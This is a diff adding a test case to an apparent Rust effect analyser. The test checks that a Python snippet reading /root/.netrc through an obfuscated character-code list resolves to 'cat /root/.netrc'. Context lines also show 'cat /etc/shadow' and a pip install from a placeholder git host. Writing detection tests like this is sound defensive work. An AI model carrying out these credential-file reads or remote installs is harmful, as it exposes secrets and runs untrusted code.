@@ -326,6 +326,12 @@ fn library_objects_with_effects_are_followed() {
         ["cat /etc/shadow"]
     );
     assert_eq!(
+        effects(
+            "print(open('/root/' + ''.join(chr(c) for c in [46, 110, 101, 116, 114, 99])).read())"
+        ),
+        ["cat /root/.netrc"]
+    );
+    assert_eq!(
         effects("import pip; pip.main(['install', 'git+https://x.example/r.git'])"),
         ["pip install git+https://x.example/r.git"]
     );
